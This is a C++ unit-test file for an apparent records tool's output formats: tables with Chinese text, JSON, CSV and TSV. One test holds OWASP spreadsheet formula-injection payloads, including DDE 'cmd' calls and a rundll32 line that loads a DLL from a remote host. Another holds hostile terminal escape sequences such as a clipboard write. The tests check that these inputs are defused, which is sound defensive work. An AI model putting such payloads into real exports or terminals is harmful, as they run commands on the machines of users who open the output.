#include "format/output.hpp"

#include <catch2/catch.hpp>
#include <fmt/format.h>
#include <limits>
#include <sstream>

using namespace mailbox;

namespace {

std::string render(Format f, const std::vector<Value>& records, int width = 0) {
    std::ostringstream out;
    print_records(out, f, records, {{"id", "ID"}, {"subject", "SUBJECT"}}, width);
    return out.str();
}

std::vector<Value> sample() {
    return {Value(Value::Object{{"id", "a"}, {"subject", "建设路坑洼"}, {"due", Value()}}),
            Value(Value::Object{{"id", "bb"}, {"subject", "x,\"y\"\tz"}, {"due", "2026-12-01"}})};
}

} // namespace

TEST_CASE("Chinese characters take two columns") {
    CHECK(display_width("abc") == 3);
    CHECK(display_width("建设路") == 6);
    CHECK(display_width("建设a") == 5);
    CHECK(display_width("\xff") == 1); // not UTF-8: one column, never a crash
}

TEST_CASE("fit_width cuts on character boundaries with an ellipsis") {
    CHECK(fit_width("建设路坑洼", 10) == "建设路坑洼");
    CHECK(fit_width("建设路坑洼", 9) == "建设路坑…");
    CHECK(fit_width("建设路坑洼", 8) == "建设路…");
    CHECK(display_width(fit_width("建设路坑洼严重", 6)) <= 6);
}

TEST_CASE("tables line up by display width") {
    CHECK(render(Format::table, sample()) == "ID  SUBJECT\n"
                                             "a   建设路坑洼\n"
                                             "bb  x,\"y\" z\n");
}

TEST_CASE("a table cut to a width shortens its last column") {
    std::string out =
        render(Format::table,
               {Value(Value::Object{{"id", "a"}, {"subject", "建设路北段路面坑洼严重"}})}, 14);
    CHECK(out == "ID  SUBJECT\na   建设路北…\n"); // 10 columns left: 8 + "…"
}

TEST_CASE("json keeps nulls and escapes what it must") {
    CHECK(render(Format::json, {sample()[1]}) == "[\n  {\n    \"id\": \"bb\",\n"
                                                 "    \"subject\": \"x,\\\"y\\\"\\tz\",\n"
                                                 "    \"due\": \"2026-12-01\"\n  }\n]\n");
    CHECK(to_json(Value(Value::Object{{"a", Value()}, {"b", Value::Array{}}, {"c", true}})) ==
          "{\n  \"a\": null,\n  \"b\": [],\n  \"c\": true\n}\n");
}

TEST_CASE("csv quotes per RFC 4180 and prints every key") {
    CHECK(render(Format::csv, sample()) == "id,subject,due\r\n"
                                           "a,建设路坑洼,\r\n"
                                           "bb,\"x,\"\"y\"\"\tz\",2026-12-01\r\n");
}

TEST_CASE("tsv escapes tabs and newlines") {
    CHECK(render(Format::tsv, sample()) == "id\tsubject\tdue\n"
                                           "a\t建设路坑洼\t\n"
                                           "bb\tx,\"y\"\\tz\t2026-12-01\n");
}

TEST_CASE("lists become one cell joined by commas") {
    CHECK(Value::texts({"a", "b"}).cell() == "a,b");
}

namespace {

// One record with one field, printed as csv or tsv: the data line alone.
std::string data_line(Format f, const Value& v) {
    std::ostringstream out;
    print_records(out, f, {Value(Value::Object{{"x", v}})}, {{"x", "X"}});
    std::string s = out.str();
    s = s.substr(s.find('\n') + 1);
    return s.substr(0, s.size() - (f == Format::csv ? 2 : 1)); // the line end
}

} // namespace

TEST_CASE("csv and tsv cells that a spreadsheet would run as a formula start with a quote") {
    // OWASP's CSV injection payloads, DDE among them.
    const std::vector<std::pair<std::string, std::string>> csv{
        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
        {"=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
        {"=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
         "\"'=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"!A0\"\")A0\""},
        {"=10+20+cmd|' /C calc'!A0", "'=10+20+cmd|' /C calc'!A0"},
        {"=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
         "\"'=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1\""},
        {"\t=1+1", "'\t=1+1"},
        {"\r=1+1", "\"'\r=1+1\""},
        {"-", "'-"},
    };
    for (const auto& [in, want] : csv) {
        CHECK(data_line(Format::csv, Value(in)) == want);
    }
    CHECK(data_line(Format::tsv, Value("=cmd|' /C calc'!A0")) == "'=cmd|' /C calc'!A0");
    CHECK(data_line(Format::tsv, Value("@SUM(1+1)*cmd|' /C calc'!A0")) ==
          "'@SUM(1+1)*cmd|' /C calc'!A0");
    CHECK(data_line(Format::tsv, Value("\t=1+1")) == "'\\t=1+1");
    CHECK(data_line(Format::tsv, Value("\r=1+1")) == "'\\r=1+1");
    // A list joined into one cell is text too.
    CHECK(data_line(Format::csv, Value::texts({"=1+1", "a"})) == "\"'=1+1,a\"");
    // Excel's CSV: the same cells, with a byte order mark and CRLF.
    std::ostringstream csv_out;
    print_records(csv_out, Format::csv, {Value(Value::Object{{"x", "=1+1"}})}, {});
    CHECK(excel_csv(csv_out.str()) == "\xEF\xBB\xBFx\r\n'=1+1\r\n");
}

TEST_CASE("numbers in csv and tsv stay numbers") {
    for (Format f : {Format::csv, Format::tsv}) {
        CHECK(data_line(f, Value(-3)) == "-3");
        CHECK(data_line(f, Value(std::int64_t{-12})) == "-12");
        CHECK(data_line(f, Value(-0.5)) == "-0.5");
        // Text that is a plain number, as the bulletin's changes: a
        // spreadsheet reads the number and runs nothing.
        CHECK(data_line(f, Value("-3")) == "-3");
        CHECK(data_line(f, Value("+12.5%")) == "+12.5%");
        CHECK(data_line(f, Value("-0.5")) == "-0.5");
        // Anything more is text.
        CHECK(data_line(f, Value("-3+1")) == "'-3+1");
        CHECK(data_line(f, Value("+1e5")) == "'+1e5");
        CHECK(data_line(f, Value("-.5")) == "'-.5");
        CHECK(data_line(f, Value("a=1")) == "a=1");
        CHECK(data_line(f, Value(" =1+1")) == " =1+1");
    }
}

TEST_CASE("visible_text shows control characters instead of sending them to the terminal") {
    CHECK(visible_text("建设路 ok\n\tnext") == "建设路 ok\n\tnext");
    CHECK(visible_text("\x1b]0;pwned\x07") == "␛]0;pwned␇");
    CHECK(visible_text("\x1b[2J") == "␛[2J");
    CHECK(visible_text("\x1b]52;c;cHduZWQ=\x07") == "␛]52;c;cHduZWQ=␇");
    CHECK(visible_text(std::string("a\0b\rc\x7f", 6)) == "a␀b␍c␡");
    CHECK(visible_text("\xc2\x9b"
                       "2J") == "<U+009B>2J"); // C1 CSI
    CHECK(visible_text("abc\u202Edef") == "abc<U+202E>def");
    CHECK(visible_text("\u2066x\u2069\u200E\u200F\u061C\u202A") ==
          "<U+2066>x<U+2069><U+200E><U+200F><U+061C><U+202A>");
    CHECK(visible_text("a\xff\xc3") == "a\uFFFD\uFFFD"); // not UTF-8
}

TEST_CASE("a table shows control characters and keeps its columns lined up") {
    std::string out =
        render(Format::table, {Value(Value::Object{{"id", "\x1b[2Jab"}, {"subject", "x"}}),
                               Value(Value::Object{{"id", "abcdef"}, {"subject", "\u202Ey"}})});
    CHECK(out == "ID      SUBJECT\n"
                 "␛[2Jab  x\n"
                 "abcdef  <U+202E>y\n");
    CHECK(out.find('\x1b') == std::string::npos);
    CHECK(render(Format::markdown,
                 {Value(Value::Object{{"id", "a"}, {"subject", "\x1b]0;t\x07"}})}) ==
          "| ID | SUBJECT |\n| --- | --- |\n| a | ␛]0;t␇ |\n");
}

TEST_CASE("json stays valid: bytes that are not UTF-8 become U+FFFD, NaN and infinities null") {
    CHECK(to_json(Value("a\xff"
                        "b")) == "\"a\\ufffdb\"\n");
    // One U+FFFD per byte: a cut-off three-byte character gives two.
    CHECK(to_json(Value("\xe5\xbb"
                        "x")) == "\"\\ufffd\\ufffdx\"\n");
    CHECK(to_json(Value("\xed\xa0\x80")) == "\"\\ufffd\\ufffd\\ufffd\"\n"); // a surrogate
    CHECK(to_json(Value("\xc0\xaf")) == "\"\\ufffd\\ufffd\"\n");            // overlong '/'
    CHECK(to_json(Value("建设\u202E")) == "\"建设\u202E\"\n");              // valid: kept
    CHECK(to_json(Value(Value::Object{{"k\xfe", 1}})) == "{\n  \"k\\ufffd\": 1\n}\n");
    CHECK(to_json(Value(std::numeric_limits<double>::quiet_NaN())) == "null\n");
    CHECK(to_json(Value(std::numeric_limits<double>::infinity())) == "null\n");
    CHECK(to_json(Value(-std::numeric_limits<double>::infinity())) == "null\n");
    CHECK(to_json(Value(0.25)) == "0.25\n");
}

TEST_CASE("json, csv and tsv are written as the records come, and read as a whole list does") {
    std::vector<Value> many;
    for (int i = 0; i < 3000; ++i) {
        many.push_back(Value(Value::Object{{"id", fmt::format("261125-{:06}", i)},
                                           {"subject", "建设路坑洼，雨天积水严重"},
                                           {"due", i % 2 ? Value() : Value("2026-12-01")}}));
    }
    for (Format f : {Format::json, Format::csv, Format::tsv, Format::table, Format::markdown}) {
        INFO(static_cast<int>(f));
        std::ostringstream out;
        RecordPrinter printer(out, f, {{"id", "ID"}, {"subject", "SUBJECT"}});
        for (const Value& r : many) {
            printer.add(r);
        }
        bool streamed = !out.str().empty();
        printer.finish();
        CHECK(streamed == (f == Format::json || f == Format::csv || f == Format::tsv));
        CHECK(out.str() == render(f, many));
        if (f == Format::json) {
            CHECK(out.str() == to_json(Value(Value::Array(many))));
        }
    }
    for (Format f : {Format::json, Format::csv, Format::tsv}) {
        std::ostringstream out;
        RecordPrinter printer(out, f, {{"id", "ID"}, {"subject", "SUBJECT"}});
        printer.finish();
        CHECK(out.str() == (f == Format::json  ? "[]\n"
                            : f == Format::csv ? "id,subject\r\n"
                                               : "id\tsubject\n"));
    }
}

TEST_CASE("a record given field by field prints as the same record of Values does") {
    auto fields = [](Fields& f) {
        f.put("id", "261125-A");
        f.put("subject", std::string("建设路\"坑洼\"\n\x01\xff"));
        f.put("units", std::vector<std::string>{"zjj", "城管局"});
        f.put("group", std::vector<std::string>{});
        f.put("overdue", true);
        f.put("days_open", 12);
        f.put("satisfied", std::optional<bool>{});
        f.put("on_time", std::optional<bool>{false});
        f.put_null("due");
    };
    Value::Object o;
    Fields to_value(o);
    fields(to_value);
    Value record(std::move(o));
    REQUIRE(record.get("units")->array()->size() == 2);
    CHECK(record.get("satisfied")->is_null());
    for (Format f : {Format::json, Format::csv, Format::tsv, Format::table, Format::markdown}) {
        INFO(static_cast<int>(f));
        std::ostringstream direct, through_values;
        RecordPrinter a(direct, f, {{"id", "ID"}, {"subject", "SUBJECT"}});
        RecordPrinter b(through_values, f, {{"id", "ID"}, {"subject", "SUBJECT"}});
        for (int i = 0; i < 2; ++i) {
            a.add(fields);
            b.add(record);
        }
        a.finish();
        b.finish();
        CHECK(direct.str() == through_values.str());
    }
    std::string empty;
    Fields none(empty, 2, 1);
    none.finish();
    CHECK(empty == "{}");
}
